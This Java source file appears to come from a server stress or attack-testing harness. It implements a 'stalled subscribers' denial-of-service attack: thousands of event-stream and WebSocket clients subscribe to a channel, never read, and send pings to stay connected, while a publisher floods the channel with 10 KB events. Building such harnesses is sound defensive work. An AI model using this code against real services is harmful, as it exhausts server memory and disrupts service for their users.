package dev.carillon.attacks.kinds;

import dev.carillon.attacks.raw.Frames;
import dev.carillon.attacks.raw.RawConnection;
import dev.carillon.attacks.raw.RawWebSocket;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;

/** Each event of a channel waits in the server for each subscriber that does not read. */
final class StalledSubscribers implements Attack {
    private static final int SUBSCRIBERS = 10_000;
    private static final int THREADS = 8;
    private static final int ADDRESSES = 5;
    private static final long EVENT_MILLIS = 100;
    private static final long CHECK_MILLIS = 5_000;

    private static final String ROOM = "stalled";
    private static final byte[] EVENT = Frames.text("421[\"say\",\"" + ROOM + "\",\"" + "s".repeat(10_000) + "\"]");
    private static final String ACK = "431";

    private static final String REQUEST = "GET /push/room:" + ROOM + " HTTP/1.1\r\nHost: localhost\r\n";
    private static final String EVENT_STREAM = REQUEST + "Accept: text/event-stream\r\n\r\n";
    private static final String WEB_SOCKET = REQUEST
            + "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
            + "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";

    /** A message is an answer to a ping. */
    private static final byte[] MESSAGE = Frames.text("");

    /** A server ignores empty lines before a request. */
    private static final byte[] EMPTY_LINE = {'\r', '\n'};

    @Override
    public String name() {
        return "stalled-subscribers";
    }

    @Override
    public String summary() {
        return "10,000 clients follow a channel by event stream or WebSocket, and do not read its ten events of 10 KB per second";
    }

    @Override
    public boolean needsRoutes() {
        return true;
    }

    @Override
    public void start(Attacker attacker) {
        attacker.repeat(THREADS, () -> subscribe(attacker, attacker.scaled(SUBSCRIBERS / THREADS)));
        attacker.repeat(1, () -> publish(attacker));
    }

    private static void publish(Attacker attacker) throws IOException {
        try (RawWebSocket client = attacker.webSocket()) {
            client.connect();
            while (!attacker.isStopped()) {
                client.send(EVENT);
                client.await(ACK);
                attacker.count();
                attacker.pause(EVENT_MILLIS);
            }
        }
    }

    /** Holds a number of subscribers. Those that the server disconnects are replaced. */
    private static void subscribe(Attacker attacker, int count) throws IOException {
        List<Subscriber> subscribers = new ArrayList<>();
        int opened = 0;
        while (!attacker.isStopped()) {
            while (subscribers.size() < count && !attacker.isStopped()) {
                boolean webSocket = opened % 2 == 0;
                subscribers.add(Subscriber.open(attacker.openFromNeighbour(1 + opened % ADDRESSES), webSocket));
                opened++;
                attacker.count();
            }
            subscribers.removeIf(Subscriber::isClosedByServer);
            attacker.pause(CHECK_MILLIS);
        }
    }

    /** A client that reads the head of the response, and nothing after it. */
    private record Subscriber(RawConnection connection, boolean webSocket) {
        static Subscriber open(RawConnection connection, boolean webSocket) throws IOException {
            connection.send(webSocket ? WEB_SOCKET : EVENT_STREAM);
            String head = connection.readHead();
            if (!head.startsWith(webSocket ? "HTTP/1.1 101 " : "HTTP/1.1 200 ")) {
                connection.close();
                throw new IOException(head.substring(0, head.indexOf("\r\n")));
            }
            return new Subscriber(connection, webSocket);
        }

        /** Tells the server that this client is alive. */
        boolean isClosedByServer() {
            try {
                connection.send(webSocket ? MESSAGE : EMPTY_LINE);
                return false;
            } catch (IOException e) {
                connection.closeQuietly();
                return true;
            }
        }
    }
}
